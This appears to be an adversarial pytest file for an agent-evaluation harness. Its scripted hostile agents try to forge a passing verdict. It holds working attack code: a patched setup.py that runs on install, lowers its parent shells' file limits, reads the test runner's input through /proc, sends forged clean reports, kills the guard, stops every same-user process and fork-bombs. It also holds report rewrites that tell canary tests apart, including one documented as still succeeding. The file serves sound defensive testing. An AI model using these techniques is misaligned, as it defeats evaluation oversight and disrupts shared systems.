"""Verdict integrity, fourth round (issue 36): the install step's leftovers, and canaries
told apart without their names.

The task of ``test_verdict_integrity``: ``tests/test_hidden.py::test_add`` hidden and
declared, ``tests/test_other.py::test_sub`` in the fixture and declared, the bug left in
``calc.add`` by every hostile agent, so every honest verdict is a miss. Classes:

1. *A process the install step left*: the patched ``setup.py`` (run by the task's
   ``pip install -e .`` as the test's uid) forks a daemon that starves the install
   shell's own sweep (a lowered ``RLIMIT_NOFILE``), then waits for the harness's pytest,
   reads its standard input (the selection, once the canaries' names) through
   ``/proc/PID/fd/0``, and reports a clean session to the collector first; or kills
   the harness's guard, stops every other process of its uid, or forks without end.
   The steps run under the guard, which kills everything of the uid when they end,
   and root counts the uid's processes before any test runs.
2. *Canaries told apart*: a rewrite of every report that passes exactly the tests
   named in the test file on disk, or all but the canaries the plugin holds in memory.
   The canaries are in the file and the plugin holds no list of them: both flip a
   must-fail canary. A rewrite that passes only tests whose bodies call the project
   still gets through: the documented residual.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from runner.records import Outcome, Trial
from tests.adversarial.support import write_files
from tests.adversarial.test_verdict_integrity import (
    CALC,
    FIX,
    FIXTURE,
    HIDDEN,
    REWRITE,
    appended,
)
from tests.adversarial.test_verdict_integrity import (
    _task as integrity_task,
)
from tests.helpers import make_suite, write_agent
from tests.test_trial_docker import run_one

pytestmark = pytest.mark.docker

INSTALL = "python3 -m pip install -e . --no-deps --no-build-isolation"
SETUP = "from setuptools import setup\n\nsetup(name='calc', version='0.1', packages=['calc'])\n"

# The daemon a patched setup.py starts: detached twice, its parents' limits lowered.
DAEMON = r"""
import os, resource, signal, socket, sys, time, json
def _ancestors():
    pid, found = os.getppid(), []
    while pid > 1:
        found.append(pid)
        with open("/proc/%d/status" % pid) as handle:
            pid = int([l for l in handle if l.startswith("PPid:")][0].split()[1])
    return found
def _starve():
    for pid in _ancestors():  # the install's shells: what they start next cannot open a file
        with open("/proc/%d/cmdline" % pid, "rb") as handle:
            if not handle.read().startswith(b"sh\0"):
                continue
        try:
            resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3))
        except OSError:
            pass
def _mine():
    me, found = os.getpid(), []
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != me:
            try:
                with open("/proc/%s/status" % name) as handle:
                    text = handle.read()
                with open("/proc/%s/cmdline" % name, "rb") as handle:
                    cmd = handle.read()
            except OSError:
                continue
            uid = [l for l in text.splitlines() if l.startswith("Uid:")][0].split()[1]
            if uid == str(os.getuid()):
                found.append((int(name), cmd))
    return found
def _forge():
    deadline = time.time() + 120
    while time.time() < deadline:
        for pid, cmd in _mine():
            if b"run_pytest.py" in cmd:
                try:
                    spec = json.loads(os.fdopen(os.open("/proc/%d/fd/0" % pid, os.O_RDONLY)).read())
                except (OSError, ValueError):
                    continue
                items = list(spec["select"]) + [
                    "%s::%s" % (c["file"], c["name"]) for c in spec.get("canaries", [])
                ]
                failing = ["%s::%s" % (c["file"], c["name"]) for c in spec.get("canaries", []) if c["fail"]]
                files = sorted({i.split("::")[0] for i in items})
                records = [{"t": "start"}, {"t": "collected", "items": items,
                           "modules": {f: "/workspace/" + f for f in files}}]
                for item in items:
                    for when in ("setup", "call", "teardown"):
                        bad = item in failing and when == "call"
                        records.append({"t": "report", "n": item, "w": when, "o": "failed" if bad else "passed"})
                records.append({"t": "finish", "status": 1 if failing else 0})
                s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                s.connect(spec["channel"])
                for r in records:
                    s.sendall(("\n" + json.dumps(r) + "\n").encode())
                time.sleep(30)
                return
        time.sleep(0.001)
def _kill_the_guard():
    time.sleep(0.5)
    for pid, cmd in _mine():
        if b"guard.py" in cmd:
            os.kill(pid, signal.SIGKILL)
    _forge()
def _stop_everyone():
    deadline = time.time() + 120
    while time.time() < deadline:
        for pid, _ in _mine():
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                pass
        time.sleep(0.01)
def _fork_forever():
    deadline = time.time() + 120
    while time.time() < deadline:
        try:
            if os.fork() != 0:
                os._exit(0)
        except OSError:
            time.sleep(0.01)
def _daemon(body):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for fd in range(0, 256):
                try:
                    os.close(fd)
                except OSError:
                    pass
            try:
                body()
            finally:
                os._exit(0)
        os._exit(0)
    os.wait()
"""

INSTALL_ATTACKS: dict[str, tuple[str, str]] = {
    "a daemon that starves the sweep and reports first": (
        "setup.py: prlimit(NOFILE=3) on its shell; a detached daemon reads pytest's stdin "
        "via /proc/PID/fd/0 and sends a clean session first",
        "_starve()\n_daemon(_forge)\n",
    ),
    "a daemon that kills the guard": (
        "setup.py: a detached daemon SIGKILLs the harness's guard, then reports first",
        "_daemon(_kill_the_guard)\n",
    ),
    "a daemon that stops every other process": (
        "setup.py: a detached daemon SIGSTOPs every process of its uid but itself, in a loop",
        "_daemon(_stop_everyone)\n",
    ),
    "a daemon that forks without end": (
        "setup.py: a detached daemon re-forks and exits in a loop, never the same pid",
        "_daemon(_fork_forever)\n",
    ),
}

# The rewrites of every report that try to leave the canaries alone.
NAMES_ON_DISK = r"""
import re as _re
def _on_disk(nodeid):
    parts = nodeid.split("::")
    try:
        with open("/workspace/" + parts[0]) as _h:
            names = set(_re.findall(r"def (test\w*)", _h.read()))
    except OSError:
        return False
    return parts[-1].split("[")[0] in names
_rewrite(_on_disk)
"""
PLUGIN_MEMORY = r"""
import gc as _gc
_known = set()
for _o in _gc.get_objects():
    try:
        if isinstance(_o, dict) and isinstance(_o.get("canaries"), list):
            _known |= {"%s::%s" % (c["file"], c["name"]) for c in _o["canaries"]}
        if type(_o).__name__ == "Recorder":
            for _c in getattr(_o, "canaries", []):
                _known.add("%s::%s" % (_c["file"], _c["name"]))
    except Exception:
        pass
_rewrite(lambda n: n not in _known)
"""
CALLS_THE_PROJECT = r"""
import ast as _ast
def _calls_project(nodeid):
    parts = nodeid.split("::")
    try:
        tree = _ast.parse(open("/workspace/" + parts[0]).read())
    except (OSError, SyntaxError):
        return False
    imported = {a.asname or a.name for n in tree.body if isinstance(n, _ast.ImportFrom) for a in n.names}
    for node in _ast.walk(tree):
        if isinstance(node, _ast.FunctionDef) and node.name == parts[-1]:
            return any(isinstance(n, _ast.Name) and n.id in imported for n in _ast.walk(node))
    return False
_rewrite(_calls_project, None)
"""

CANARY_ATTACKS: dict[str, tuple[str, str]] = {
    "passes the tests named in the file on disk": (
        "wrap the plugin's channel: pass each test whose name is a def in its file",
        REWRITE + NAMES_ON_DISK,
    ),
    "passes all but the canaries the plugin holds": (
        "read the canaries' names from the plugin's objects and the spec in memory",
        REWRITE + PLUGIN_MEMORY,
    ),
}


def _setup_attack(body: str) -> str:
    """An agent script: a setup.py that runs ``body`` (with DAEMON's helpers) when pip
    installs the project, and no fix."""
    setup = DAEMON + body + SETUP
    return write_files(("setup.py", setup))


# The attack that stops the install step ends at the verify limit: it has a suite of its
# own with a shorter one, the others keep room for an install on a loaded machine.
STOPS = "a daemon that stops every other process"


def _suite(root: Path, attacks: dict[str, tuple[str, str]], verify_timeout_s: int) -> Path:
    arms: list[dict[str, Any]] = [
        {"name": "ctrl", "control": True, "agent": {"type": "scripted", "action": "noop"}},
        {"name": "fixer", "agent": write_agent(root, "fixer", FIX)},
        {
            "name": "residual",
            "agent": write_agent(root, "residual", appended(REWRITE + CALLS_THE_PROJECT)),
        },
    ]
    for name, (_, script) in attacks.items():
        i = list(INSTALL_ATTACKS).index(name)
        arms.append({"name": f"i{i}", "agent": write_agent(root, f"i{i}", _setup_attack(script))})
    for i, (_, code) in enumerate(CANARY_ATTACKS.values()):
        arms.append({"name": f"n{i}", "agent": write_agent(root, f"n{i}", appended(code))})
    fixture = {"setup.py": SETUP, "calc/__init__.py": CALC, **FIXTURE}
    hidden = {"tests/test_hidden.py": HIDDEN}
    return make_suite(
        root,
        [integrity_task("flat"), integrity_task("inst", install=[INSTALL])],
        arms,
        fixtures={"flat": FIXTURE, "inst": fixture},
        hidden={"flat": hidden, "inst": hidden},
        runtime={"verify_timeout_s": verify_timeout_s},  # a stopped install step ends here
    )


@pytest.fixture(scope="module")
def suite(tmp_path_factory: pytest.TempPathFactory) -> Path:
    attacks = {k: v for k, v in INSTALL_ATTACKS.items() if k != STOPS}
    return _suite(tmp_path_factory.mktemp("round4"), attacks, 30)


@pytest.fixture(scope="module")
def stopping_suite(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _suite(tmp_path_factory.mktemp("round4-stop"), {STOPS: INSTALL_ATTACKS[STOPS]}, 10)


def _not_a_pass(trial: Trial) -> str:
    assert trial.outcome is Outcome.MISS, (trial.outcome, trial.reason, trial.verify_log[-1500:])
    assert trial.error is None and trial.reason
    return f"{trial.outcome.value}: {trial.reason}"


def test_an_honest_fix_passes_with_an_install_step(suite: Path, docker_api: Any) -> None:
    trial = run_one(docker_api, suite, "inst", "fixer")
    assert trial.outcome is Outcome.SUCCESS, (trial.reason, trial.verify_log[-1500:])
    assert run_one(docker_api, suite, "inst", "ctrl").outcome is Outcome.MISS


@pytest.mark.parametrize("attack", list(INSTALL_ATTACKS))
def test_what_the_install_step_leaves_never_reaches_the_verdict(
    attack: str, request: pytest.FixtureRequest, docker_api: Any, held: Callable[..., None]
) -> None:
    controls = request.getfixturevalue("stopping_suite" if attack == STOPS else "suite")
    trial = run_one(docker_api, controls, "inst", f"i{list(INSTALL_ATTACKS).index(attack)}")
    held(f"install step: {attack}", INSTALL_ATTACKS[attack][0], _not_a_pass(trial))


@pytest.mark.parametrize("attack", list(CANARY_ATTACKS))
def test_canaries_cannot_be_told_apart_by_file_or_memory(
    attack: str, suite: Path, docker_api: Any, held: Callable[..., None]
) -> None:
    trial = run_one(docker_api, suite, "flat", f"n{list(CANARY_ATTACKS).index(attack)}")
    held(f"canary: {attack}", CANARY_ATTACKS[attack][0], _not_a_pass(trial))
    assert "tampered" in (trial.reason or "") and trial.tool_violation, trial.reason


def test_a_rewrite_by_what_test_bodies_call_still_forges(
    suite: Path, docker_api: Any, held: Callable[..., None]
) -> None:
    """docs/verdicts-and-sandbox.md: the canaries exercise nothing of the project; a rewrite
    that passes only tests whose bodies name what the file imports tells them apart."""
    trial = run_one(docker_api, suite, "flat", "residual")
    held(
        "canary: a rewrite by what test bodies call",
        "pass only tests whose bodies name something the test file imports",
        f"{trial.outcome.value} (a forged pass: docs, what remains the operator's job)",
        residual=True,
    )
    assert trial.outcome is Outcome.SUCCESS, (trial.reason, trial.verify_log[-800:])
